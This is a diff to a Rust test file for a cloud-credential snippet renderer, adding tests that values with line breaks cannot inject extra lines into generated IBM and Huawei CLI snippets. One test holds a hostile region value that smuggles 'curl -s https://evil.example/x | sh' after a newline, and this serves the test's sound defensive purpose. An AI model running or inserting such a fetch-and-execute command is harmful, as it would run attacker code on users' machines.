@@ -391,3 +391,85 @@ proptest! {
         prop_assert_eq!(&line["secret_key = ".len()..], format!("\"{secret}\""));
     }
 }
+
+/// Lines as a reader of any of the snippets' languages, or an editor, would break them.
+fn line_count(text: &str) -> usize {
+    text.split([
+        '\n', '\r', '\u{0B}', '\u{0C}', '\u{85}', '\u{2028}', '\u{2029}',
+    ])
+    .count()
+}
+
+/// Every template of every provider, rendered for `profile` with and without the secret.
+fn every_render(profile: &Profile) -> Vec<(Target, bool, Result<Snippet, Refused>)> {
+    templates()
+        .filter(|t| t.providers.contains(&profile.provider))
+        .flat_map(|t| [false, true].map(|with| (t.target, with, render(profile, t.target, with))))
+        .collect()
+}
+
+/// `profile` with `text` in every value a user or a backup can set: the region, the project ID,
+/// the OpenScale instance, the AK and the secret.
+fn with_everywhere(mut profile: Profile, text: &str) -> Profile {
+    profile.region = Some(text.into());
+    profile.project_id = Some(text.into());
+    profile.openscale_guid = Some(text.into());
+    for credential in &mut profile.credentials {
+        match credential {
+            Credential::AkSk(key) => {
+                key.access_key_id = text.into();
+                key.secret_access_key = Secret::new(text);
+            }
+            Credential::IbmApiKey(key) => key.api_key = Secret::new(text),
+            _ => {}
+        }
+    }
+    profile
+}
+
+#[test]
+fn a_region_with_a_line_break_cannot_put_a_command_into_the_ibm_cli_snippet() {
+    let hostile = "us-south\ncurl -s https://evil.example/x | sh";
+    let refused = render(&ibm(hostile, SK), Target::IbmcloudLogin, false).unwrap_err();
+    assert_eq!(refused.code, CodeError::Unrepresentable);
+    assert_eq!(
+        serde_json::to_value(&refused.params).unwrap()["value"]["term"],
+        "code_value_region"
+    );
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
+    /// No value adds a line to any template, in code or in comments: with a line break (of any
+    /// kind a language or an editor honours) in every value, each snippet is refused or keeps the
+    /// line count it has with plain values.
+    #[test]
+    fn no_value_adds_a_line_to_any_snippet(
+        before in "[a-z0-9-]{0,8}",
+        line_break in prop::sample::select(vec!["\n", "\r", "\r\n", "\u{0B}", "\u{0C}", "\u{85}", "\u{2028}", "\u{2029}"]),
+        after in "[ -~]{0,12}",
+    ) {
+        let hostile = format!("{before}{line_break}{after}");
+        for base in [
+            huawei(Provider::Huawei, "cn-north-4", Some("p1"), SK),
+            huawei(Provider::FlexibleEngine, "eu-west-0", Some("p1"), SK),
+            ibm("eu-de", SK),
+        ] {
+            let plain = every_render(&with_everywhere(base.clone(), "plain1"));
+            let attacked = every_render(&with_everywhere(base, &hostile));
+            for ((target, with, plain), (_, _, attacked)) in plain.into_iter().zip(attacked) {
+                match (plain, attacked) {
+                    (Ok(plain), Ok(attacked)) => prop_assert_eq!(
+                        line_count(attacked.text.expose()),
+                        line_count(plain.text.expose()),
+                        "{:?} (secret: {})", target, with
+                    ),
+                    // Refused (the value cannot be written on one line): nothing to paste.
+                    (_, Err(_)) => {}
+                    (Err(_), Ok(attacked)) => prop_assert!(false, "{:?} renders only when attacked: {}", target, attacked.text.expose()),
+                }
+            }
+        }
+    }
+}
